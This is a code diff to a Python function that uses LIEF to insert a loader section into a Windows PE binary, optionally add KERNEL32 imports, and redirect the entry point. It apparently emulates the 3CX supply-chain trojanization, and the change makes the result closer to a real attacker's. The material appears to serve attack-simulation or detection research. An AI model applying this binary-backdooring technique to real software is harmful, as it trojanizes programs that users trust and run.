@@ -103,10 +103,13 @@ LOADER_STUB = bytes.fromhex(
 )
 
 
-def add_loader(src: Path, dst: Path, imports: tuple[str, ...] = ("CreateEventW", "ReadFile", "VirtualAlloc",
-                                                                 "VirtualProtect", "CreateFileW"),
-               move_entry: bool = True, section_name: str = ".text2") -> dict:
-    """Write ``dst``: ``src`` plus a loader section, new KERNEL32 imports, entry point moved there."""
+def add_loader(src: Path, dst: Path, imports: tuple[str, ...] = (), move_entry: bool = True,
+               section_name: str = ".text2") -> dict:
+    """Write ``dst``: ``src`` plus a loader section (and new KERNEL32 imports), entry point moved there.
+
+    The 3CX loader needed no new imports (FFmpeg already imports VirtualProtect), so none are added by
+    default; LIEF's import rebuild also rewrites the whole import table, which a real attacker avoids.
+    """
     import lief
 
     binary = lief.PE.parse(str(src))
@@ -118,16 +121,19 @@ def add_loader(src: Path, dst: Path, imports: tuple[str, ...] = ("CreateEventW",
     section.content = list(content)
     section.characteristics = 0x60000020  # CODE | EXECUTE | READ
     added = binary.add_section(section)
-    kernel = binary.get_import("KERNEL32.dll") or binary.get_import("kernel32.dll") or binary.add_import("KERNEL32.dll")
-    have = {e.name for e in kernel.entries}
-    new_imports = [name for name in imports if name not in have]
-    for name in new_imports:
-        kernel.add_entry(name)
+    new_imports: list[str] = []
+    if imports:
+        kernel = (binary.get_import("KERNEL32.dll") or binary.get_import("kernel32.dll")
+                  or binary.add_import("KERNEL32.dll"))
+        have = {e.name for e in kernel.entries}
+        new_imports = [name for name in imports if name not in have]
+        for name in new_imports:
+            kernel.add_entry(name)
     old_entry = binary.optional_header.addressof_entrypoint
     if move_entry:
         binary.optional_header.addressof_entrypoint = added.virtual_address
     config = lief.PE.Builder.config_t()
-    config.imports = True
+    config.imports = bool(new_imports)
     binary.write(str(dst), config)
     return {"section": section_name, "section_rva": added.virtual_address, "old_entry": old_entry,
             "new_imports": new_imports}
